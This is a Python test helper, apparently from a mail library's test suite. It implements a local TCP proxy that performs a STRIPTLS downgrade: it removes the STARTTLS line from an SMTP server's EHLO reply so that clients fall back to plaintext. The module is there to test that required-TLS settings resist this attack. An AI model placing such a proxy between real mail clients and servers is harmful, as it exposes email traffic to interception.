"""A STRIPTLS attacker for tests: a TCP proxy that removes STARTTLS from EHLO replies.

It sits between mailcase and a real server (Postfix) and forwards everything unchanged
except the server's multi-line 250 reply to EHLO, from which the ``STARTTLS`` line is cut (the
last line's separator is mended, so the reply stays well-formed). A client that does not insist
on TLS then talks plaintext to a server that offers TLS: the downgrade attack that
``required`` / ``required_verify`` (and later MTA-STS and DANE) exist to stop.

    async with StripTLSProxy("127.0.0.1", postfix_port) as proxy:   # proxy.port
        ...
        proxy.stripped   # how many EHLO replies lost their STARTTLS line
"""

from __future__ import annotations

import asyncio
import contextlib
from types import TracebackType

__all__ = ["StripTLSProxy", "strip_starttls"]


def strip_starttls(reply_lines: list[bytes]) -> list[bytes]:
    """One complete reply (lines with CRLF): without STARTTLS, separators mended."""
    kept = [ln for ln in reply_lines if ln[4:].strip().upper() != b"STARTTLS"]
    if not kept:
        return reply_lines
    out = [ln[:3] + b"-" + ln[4:] for ln in kept[:-1]]
    last = kept[-1]
    out.append(last[:3] + b" " + last[4:])
    return out


class StripTLSProxy:
    """Listens on 127.0.0.1:port; each connection is forwarded to (host, upstream_port)."""

    def __init__(self, host: str, upstream_port: int) -> None:
        self.host = host
        self.upstream_port = upstream_port
        self.port = 0
        self.stripped = 0
        self.connections = 0
        self._server: asyncio.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()

    async def __aenter__(self) -> StripTLSProxy:
        self._server = await asyncio.start_server(self._handle, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, t: type[BaseException] | None, e: BaseException | None,
                        tb: TracebackType | None) -> None:
        assert self._server is not None
        self._server.close()
        for task in list(self._tasks):
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        await self._server.wait_closed()

    async def _handle(self, cr: asyncio.StreamReader, cw: asyncio.StreamWriter) -> None:
        self.connections += 1
        sr, sw = await asyncio.open_connection(self.host, self.upstream_port)
        up = asyncio.create_task(self._pipe(cr, sw))
        down = asyncio.create_task(self._server_to_client(sr, cw))
        self._tasks.update((up, down))
        try:
            await asyncio.wait({up, down}, return_when=asyncio.FIRST_COMPLETED)
        finally:
            for t in (up, down):
                t.cancel()
                self._tasks.discard(t)
            for w in (sw, cw):
                w.close()
                with contextlib.suppress(Exception):
                    await w.wait_closed()

    @staticmethod
    async def _pipe(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        while data := await r.read(65536):
            w.write(data)
            await w.drain()

    async def _server_to_client(self, r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        reply: list[bytes] = []
        while line := await r.readline():
            reply.append(line)
            if len(line) >= 4 and line[3:4] == b"-":
                continue  # more lines of this reply follow
            if any(ln[4:].strip().upper() == b"STARTTLS" for ln in reply):
                reply = strip_starttls(reply)
                self.stripped += 1
            w.write(b"".join(reply))
            await w.drain()
            reply = []
